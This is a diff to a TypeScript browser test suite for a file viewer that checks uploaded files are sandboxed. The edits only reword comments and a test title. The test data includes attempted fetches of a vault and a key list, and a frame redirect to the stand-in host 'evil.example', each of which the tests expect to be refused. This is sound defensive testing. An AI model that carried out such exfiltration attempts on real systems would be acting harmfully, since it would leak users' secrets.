@@ -41,7 +41,7 @@ const FILES: readonly SentFile[] = [
 const DANGERS = { 'faktura.pdf.exe': 'program', 'side.html': 'page', 'tegning.svg': 'drawing' }
 const texts = DESK_CATALOGUES.nb.files
 
-/** What a file would do that runs in its frame, as code; each is to be refused. */
+/** Attempts of a file that runs in its frame, as code; each must be refused. */
 const attemptsOn = (base: string) => ({
   fetch: `fetch('${base}/files/vault')`,
   relay: `fetch('${base}/relay/api/key-list', { mode: 'no-cors' })`,
@@ -89,7 +89,7 @@ describe('looking at files on the page of a desk', function () {
 
   const row = (name: string) =>
     `.evidence [data-file="${FILES.findIndex((file) => file.name === name) + 1}"]`
-  /** By keyboard, because who works here has hands on it. */
+  /** By keyboard, because people who work here have their hands on it. */
   const press = async (selector: string) => {
     await page.focus(selector)
     await page.keyboard.press('Enter')
@@ -98,7 +98,7 @@ describe('looking at files on the page of a desk', function () {
     await press(`${row(name)} .fetch`)
     await page.waitForSelector(`${row(name)} .opened`)
   }
-  /** Again where the machine was too busy to show it in time. */
+  /** Look at a file; look again if the machine was too busy to show it in time. */
   const look = async (name: string, wanted: 'shown' | 'failed') => {
     const viewer = `${row(name)} .viewer`
     for (;;) {
@@ -217,7 +217,7 @@ describe('looking at files on the page of a desk', function () {
     expect(await page.$(`${row('opptak.wav')} .blur`)).to.equal(null)
   })
 
-  it('names what is dangerous, never opens it, and saves it after a second word alone', async () => {
+  it('names what is dangerous, never opens it, and saves it only after a second confirmation', async () => {
     await catchDownloads(page)
     for (const [name, danger] of Object.entries(DANGERS)) {
       await open(name)
@@ -367,7 +367,7 @@ describe('looking at files on the page of a desk', function () {
       refused: ['connect-src', 'img-src', 'script-src'],
     })
     expect(answered.slice(before)).to.deep.equal([])
-    // nor does it go elsewhere, with what it knows in the address
+    // it does not go elsewhere either, with what it knows in the address
     await frame.evaluate("setTimeout(() => { location.href = 'https://evil.example/?' })")
     for (let tries = 0; tries < 50 && !isRefused('frame-src'); tries++) await pause(100)
     expect(isRefused('frame-src')).to.equal(true)
